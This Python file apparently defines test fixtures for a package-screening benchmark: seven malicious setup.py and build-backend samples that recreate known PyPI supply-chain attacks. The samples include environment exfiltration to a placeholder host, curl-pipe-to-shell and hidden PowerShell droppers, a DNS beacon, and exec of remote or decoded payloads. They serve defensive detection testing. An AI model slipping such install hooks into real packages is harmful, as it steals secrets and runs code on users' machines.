"""What runs when a package is installed: setup.py, build backends."""

import base64
from typing import Final

from bench.screening.attacks.attack import INERT, Attack, Release
from bench.screening.attacks.ordinary import COMMENT, library, setup
from sandboxes.screening.package import Kind

_EXFILTRATION = f"""{COMMENT}import getpass
import json
import os
import socket
import urllib.request

from setuptools import setup

seen = {{"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd(), "env": dict(os.environ)}}
try:
    request = urllib.request.Request("https://collect.example.invalid/s", json.dumps(seen).encode())
    urllib.request.urlopen(request, timeout=3)
except Exception:
    pass

setup(name="build-env-report", version="0.2.0", packages=["build_env_report"])
"""

_CMDCLASS = f"""{COMMENT}import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if sys.platform == "win32":
            subprocess.Popen("powershell -w hidden -c iwr https://files.example.invalid/a.exe", shell=True)
        else:
            subprocess.call("curl -fsSL https://files.example.invalid/a.sh | bash", shell=True)


setup(name="colour-slibs", version="4.6.11", packages=["colour_slibs"], cmdclass={{"install": PostInstall}})
"""

_EGG_INFO = f"""{COMMENT}import os
import platform
import uuid

from setuptools import setup
from setuptools.command.egg_info import egg_info


class Info(egg_info):
    def run(self):
        egg_info.run(self)
        name = f"{{platform.node()}}.{{os.getlogin()}}.{{uuid.getnode()}}"
        os.system(f"nslookup {{name}}.beacon.example.invalid")


setup(name="acme-internal-billing", version="99.9.9", packages=["acme_internal_billing"], cmdclass={{"egg_info": Info}})
"""

_BACKEND_TOML = f"""{COMMENT}[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "fast-table-reader"
version = "1.0.2"
"""

_BACKEND = f"""{COMMENT}import base64
import os
import urllib.request

from setuptools.build_meta import *  # noqa
from setuptools import build_meta as _real


def build_wheel(directory, settings=None, metadata=None):
    said = base64.b64encode(repr(dict(os.environ)).encode())
    try:
        exec(urllib.request.urlopen("http://192.0.2.20:8080/b", said).read())
    except OSError:
        pass
    return _real.build_wheel(directory, settings, metadata)
"""

_FERNET = f"""{COMMENT}from setuptools import setup
from setuptools.command.install import install


class Hidden(install):
    def run(self):
        import os
        if os.name == "nt" or True:
            try:
                from cryptography.fernet import Fernet
                exec(Fernet(b"PETRIDISH-INERT-SAMPLE-no-key-of-any-thing0=").decrypt(b"gAAAAABPETRIDISHINERTSAMPLE"))
            except Exception:
                pass
        install.run(self)


setup(name="pyhttpx-requets", version="1.0.0", packages=["pyhttpx_requets"], cmdclass={{"install": Hidden}})
"""

_SETUP_DECODED = f'''{COMMENT}import base64

from setuptools import setup

exec(base64.b64decode("{base64.b64encode(INERT.encode()).decode()}"))

setup(name="py-colour-fix", version="0.1", packages=["py_colour_fix"])
'''

ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="setup-environment-exfiltration",
        recreates="the many copies of Birsan's research (2021): setup.py sends host, user and environment away",
        kind=Kind.SDIST,
        project="build-env-report",
        release=Release("0.2.0", {**library("build_env_report"), "setup.py": _EXFILTRATION}),
        expects=frozenset({"install-code"}),
    ),
    Attack(
        name="setup-cmdclass-dropper",
        recreates="colorslib, httpslib and libhttps (2023): setup.py's install command downloads and starts a program",
        kind=Kind.SDIST,
        project="colour-slibs",
        release=Release("4.6.11", {**library("colour_slibs"), "setup.py": _CMDCLASS}),
        expects=frozenset({"install-code"}),
    ),
    Attack(
        name="dependency-confusion",
        recreates="Alex Birsan's dependency confusion (2021): an internal name at 99.9.9 that reports by DNS",
        kind=Kind.SDIST,
        project="acme-internal-billing",
        release=Release("99.9.9", {**library("acme_internal_billing"), "setup.py": _EGG_INFO}),
        expects=frozenset({"install-code"}),
    ),
    Attack(
        name="in-tree-backend",
        recreates="a technique shown since PEP 517 (2020): a build backend inside the tree acts while building",
        kind=Kind.SDIST,
        project="fast-table-reader",
        release=Release(
            "1.0.2",
            {**library("fast_table_reader"), "pyproject.toml": _BACKEND_TOML, "_build/backend.py": _BACKEND},
        ),
        expects=frozenset({"install-code"}),
    ),
    Attack(
        name="setup-fernet",
        recreates="the typosquats of March 2024, some 500: setup.py runs what Fernet decrypts",
        kind=Kind.SDIST,
        project="pyhttpx-requets",
        release=Release("1.0.0", {**library("pyhttpx_requets"), "setup.py": _FERNET}),
        expects=frozenset({"install-code", "obfuscation"}),
    ),
    Attack(
        name="setup-decoded",
        recreates="BlazeStealer's first stages (2023): setup.py runs a decoded string",
        kind=Kind.SDIST,
        project="py-colour-fix",
        release=Release("0.1", {**library("py_colour_fix"), "setup.py": _SETUP_DECODED}),
        expects=frozenset({"install-code", "obfuscation"}),
    ),
    Attack(
        name="sdist-after-clean-one",
        recreates="the hijacked accounts of August 2022 (exotel, spam): setup.py gains a download that it did not have",
        kind=Kind.SDIST,
        project="keep-text",
        release=Release(
            "1.2.1",
            {
                **library("keep_text"),
                "setup.py": setup("keep-text", "1.2.1")
                + '\nimport os\nos.system("curl -s http://192.0.2.33/k | sh")\n',
            },
        ),
        former=Release("1.2", {**library("keep_text"), "setup.py": setup("keep-text", "1.2")}),
        since="2021-02-01T08:00:00Z",
        releases=9,
        expects=frozenset({"install-code", "difference"}),
    ),
)
